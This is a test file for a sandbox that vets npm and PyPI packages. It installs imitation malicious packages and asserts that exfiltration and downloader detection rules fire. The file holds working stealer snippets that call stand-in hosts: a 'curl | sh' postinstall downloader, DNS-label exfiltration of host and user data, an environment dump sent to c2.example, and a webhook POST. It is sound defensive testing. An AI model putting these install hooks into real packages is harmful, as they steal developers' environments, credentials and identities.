// Rules on behavior captured the production way: the sandbox joined to a per-analysis sinkhole,
// canaries planted, the capture merged into the behavior and searched for leaks. Imitation
// malware (documentation addresses, .example names) must come out malicious with the expected
// rule ids; real packages that try to download prebuilt binaries must stay benign.
import { randomUUID } from 'node:crypto';
import { rm } from 'node:fs/promises';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Report, StagedPackage } from '@vetbox/contracts';
import { fetchNpm, stage } from '@vetbox/fetch';
import { detonate as detonateStaged } from '@vetbox/pipeline';
import { DockerRuntime, LABEL_ANALYSIS, appProject, ensureSandboxImage } from '@vetbox/sandbox';
import type { CannedResponse } from '@vetbox/sinkhole';
import { DNS_EXFIL_JS, ENV_STEALER_JS, NPMRC_HTTPS_JS, awsStealerSetupPy, stageNpm, stagePypiSdist, tempDir } from '../fixtures/sandbox/stage.js';

const runtime = new DockerRuntime();
const limits = { graceMs: 1000, phaseTimeoutMs: 180_000 };
let image = '';
const used: string[] = [];
const cleanup: string[] = [];

beforeAll(async () => {
  image = await ensureSandboxImage(runtime, { build: true });
}, 600_000);

afterEach(async () => {
  for (const id of used.splice(0)) expect(await runtime.listByLabel(LABEL_ANALYSIS, id)).toEqual([]);
});

afterAll(async () => {
  await Promise.all(cleanup.map((dir) => rm(dir, { recursive: true, force: true })));
});

/** As production detonates: sinkhole, canaries, sandbox in its namespace, behavior, leaks, rules. */
async function detonate(staged: StagedPackage, canned: CannedResponse[] = []): Promise<{ result: Report; text: string }> {
  const analysisId = `test-rules-sinkhole-${randomUUID()}`;
  used.push(analysisId);
  const { report: result } = await detonateStaged(staged, { analysisId, image, canned, limits });
  const text = [
    `${staged.name}: ${result.verdict} ${result.score} — ${result.summary}`,
    ...result.findings.map((f) => `  ${f.rule}(${f.severity}) ${f.title}: ${f.evidence.slice(0, 3).map((e) => e.summary).join(' | ')}`),
  ].join('\n');
  console.log(text);
  return { result, text };
}

function expectRules(result: Report, text: string, ids: string[]): void {
  expect(result.verdict, text).toBe('malicious');
  const fired = new Set(result.findings.map((f) => f.rule));
  for (const id of ids) expect(fired, text).toContain(id);
}

describe('rules + sinkhole: imitation malware comes out malicious', () => {
  it('postinstall base64-encodes process.env into an HTTP POST to collector.example', async () => {
    const staged = await stageNpm({
      name: 'env-stealer',
      scripts: { postinstall: 'node steal.js' },
      files: {
        'steal.js': ENV_STEALER_JS,
        'index.js': 'module.exports = 1;\n',
      },
    });
    cleanup.push(staged.dir);
    const { result, text } = await detonate(staged);
    expectRules(result, text, ['credential-exfiltration', 'network-activity']);
    const exfil = result.findings.find((f) => f.rule === 'credential-exfiltration')!;
    expect(exfil.severity).toBe('critical');
    expect(exfil.evidence.some((e) => e.kind === 'http'), text).toBe(true);
  }, 300_000);

  it('postinstall hex-encodes NPM_TOKEN into DNS labels', async () => {
    const staged = await stageNpm({
      name: 'dns-exfil',
      scripts: { postinstall: 'node dns.js' },
      files: {
        'dns.js': DNS_EXFIL_JS,
        'index.js': 'module.exports = 1;\n',
      },
    });
    cleanup.push(staged.dir);
    const { result, text } = await detonate(staged);
    expectRules(result, text, ['credential-exfiltration', 'network-activity']);
  }, 300_000);

  it('setup.py reads ~/.aws/credentials and sends it over raw TCP', async () => {
    const staged = await stagePypiSdist({
      name: 'awssteal',
      setupPy: awsStealerSetupPy('awssteal'),
      files: { 'awssteal.py': 'VALUE = 1\n' },
    });
    cleanup.push(staged.dir);
    const { result, text } = await detonate(staged);
    expectRules(result, text, ['credential-exfiltration', 'credential-store-read', 'network-activity']);
  }, 300_000);

  it('node POSTs ~/.npmrc over HTTPS', async () => {
    const staged = await stageNpm({
      name: 'npmrc-https',
      scripts: { postinstall: 'node up.js' },
      files: {
        'up.js': NPMRC_HTTPS_JS,
        'index.js': 'module.exports = 1;\n',
      },
    });
    cleanup.push(staged.dir);
    const { result, text } = await detonate(staged);
    expectRules(result, text, ['credential-exfiltration', 'credential-store-read', 'network-activity']);
  }, 300_000);

  it('curl | sh downloader whose second stage phones home', async () => {
    const staged = await stageNpm({
      name: 'downloader',
      scripts: { postinstall: 'curl -s http://stage.example/stage2.sh | sh' },
      files: { 'index.js': 'module.exports = 1;\n' },
    });
    cleanup.push(staged.dir);
    const canned = [{ host: 'stage.example', path: '/stage2.sh', contentType: 'text/x-shellscript', body: '#!/bin/sh\ncurl -s http://next.example/ping\n' }];
    const { result, text } = await detonate(staged, canned);
    expectRules(result, text, ['downloader-execution', 'network-activity']);
    expect(result.findings.filter((f) => f.rule === 'network-activity').map((f) => f.title).sort(), text).toEqual(
      expect.arrayContaining(['Contacts next.example during install', 'Contacts stage.example during install']),
    );
  }, 300_000);
});

/** The evidence row of `rule` that shows `value` (decoded) and where it appeared. */
function rowShowing(result: Report, rule: string, value: string): string {
  const f = result.findings.find((x) => x.rule === rule);
  return f?.evidence.find((e) => e.kind !== 'canary' && e.summary.includes(value))?.summary ?? '';
}

describe('rules + sinkhole: identity and environment leaving come out malicious (#21)', () => {
  it('postinstall looks up <hostname>.probe.example', async () => {
    const staged = await stageNpm({
      name: 'host-probe',
      scripts: { postinstall: 'node probe.js' },
      files: {
        'probe.js': "require('dns').lookup(require('os').hostname() + '.probe.example', () => {});\n",
        'index.js': 'module.exports = 1;\n',
      },
    });
    cleanup.push(staged.dir);
    const { result, text } = await detonate(staged);
    expectRules(result, text, ['identity-exfiltration']);
    const host = result.sandbox!.persona!.hostname;
    expect(rowShowing(result, 'identity-exfiltration', `"${host}"`), text).toMatch(new RegExp(`^DNS \\w+ lookup of ${host}\\.probe\\.example carried the hostname`));
  }, 300_000);

  it('setup.py sends host, user, kernel and cwd hex-chunked over several lookups under collect.invalid', async () => {
    const staged = await stagePypiSdist({
      name: 'hexprobe',
      setupPy: `
import getpass, os, platform, socket
from setuptools import setup
data = '|'.join([socket.gethostname(), getpass.getuser(), platform.release(), os.getcwd()]).encode().hex()
for i, at in enumerate(range(0, len(data), 60)):
    try:
        socket.gethostbyname('%s.%d.t.collect.invalid' % (data[at:at + 60], i))
    except OSError:
        pass
setup(name='hexprobe', version='1.0.0', py_modules=['hexprobe'])
`,
      files: { 'hexprobe.py': 'VALUE = 1\n' },
    });
    cleanup.push(staged.dir);
    const { result, text } = await detonate(staged);
    expectRules(result, text, ['identity-exfiltration']);
    const ids = result.findings.filter((f) => f.rule === 'identity-exfiltration');
    expect(ids.map((f) => f.title), text).toEqual([expect.stringMatching(/^Sends the machine's identity \(.*hostname.*user name.*\) to collect\.invalid$/)]);
    expect(rowShowing(result, 'identity-exfiltration', `"${result.sandbox!.persona!.user}"`), text).toMatch(/^DNS \w+ lookup of [0-9a-f]+\.\d+\.t\.collect\.invalid carried .*\(hex/);
    // The lookups are one network finding with a row each, not one finding per name.
    const lookups = result.findings.filter((f) => f.rule === 'network-activity' && f.title.includes('collect.invalid'));
    expect(lookups, text).toHaveLength(1);
  }, 300_000);

  it('postinstall sends base64 JSON of the environment in a URL query', async () => {
    const staged = await stageNpm({
      name: 'env-query',
      scripts: { postinstall: 'node q.js' },
      files: {
        'q.js': "const d = Buffer.from(JSON.stringify(process.env)).toString('base64');\nrequire('http').get('http://c2.example/p?d=' + encodeURIComponent(d), (r) => r.resume()).on('error', () => {});\n",
        'index.js': 'module.exports = 1;\n',
      },
    });
    cleanup.push(staged.dir);
    const { result, text } = await detonate(staged);
    expectRules(result, text, ['environment-exfiltration', 'credential-exfiltration']);
    const env = result.findings.find((f) => f.rule === 'environment-exfiltration')!;
    expect(env.severity).toBe('critical');
    expect(env.evidence.find((e) => e.kind === 'canary')?.summary, text).toMatch(/PATH.*HOME|HOME.*PATH/);
    expect(rowShowing(result, 'environment-exfiltration', 'c2.example/p?d='), text).toMatch(/^HTTP GET c2\.example\/p\?d=.* \(path\) carried the process environment \(.*base64/);
  }, 300_000);

  it('postinstall POSTs the user name to a webhook-shaped path on hooks.example over HTTPS', async () => {
    const staged = await stageNpm({
      name: 'hook-post',
      scripts: { postinstall: 'node hook.js' },
      files: {
        'hook.js': [
          "const os = require('os');",
          "const body = JSON.stringify({ content: 'installed by ' + os.userInfo().username });",
          "const req = require('https').request({ host: 'hooks.example', method: 'POST', path: '/api/webhooks/112233445566778899/Xy7-abcdefghijklmnopqrstuvwxyz012345', headers: { 'content-type': 'application/json' } }, (r) => r.resume());",
          "req.on('error', () => {});",
          'req.end(body);',
          '',
        ].join('\n'),
        'index.js': 'module.exports = 1;\n',
      },
    });
    cleanup.push(staged.dir);
    const { result, text } = await detonate(staged);
    expectRules(result, text, ['identity-exfiltration', 'exfiltration-channel']);
    const user = result.sandbox!.persona!.user;
    expect(rowShowing(result, 'identity-exfiltration', `"${user}"`), text).toMatch(/^HTTPS POST hooks\.example\/api\/webhooks\/.* \(body\) carried the user name/);
    const channel = result.findings.find((f) => f.rule === 'exfiltration-channel')!;
    expect([channel.severity, channel.title], text).toEqual(['critical', 'Sends to a Discord webhook (hooks.example) during install']);
  }, 300_000);
});

describe('rules + sinkhole: real packages that try to download binaries stay benign', () => {
  for (const spec of ['esbuild@0.24.0', 'bcrypt@5.1.1', 'core-js@3.39.0']) {
    it(spec, async () => {
      const at = spec.lastIndexOf('@');
      const artifact = await fetchNpm(spec.slice(0, at), spec.slice(at + 1));
      if (artifact.dir) cleanup.push(artifact.dir);
      const work = await tempDir('rules-sinkhole');
      cleanup.push(work);
      const { result, text } = await detonate(await stage(artifact, work, { npmProject: appProject() }));
      expect(result.verdict, text).toBe('benign');
    }, 400_000);
  }
});
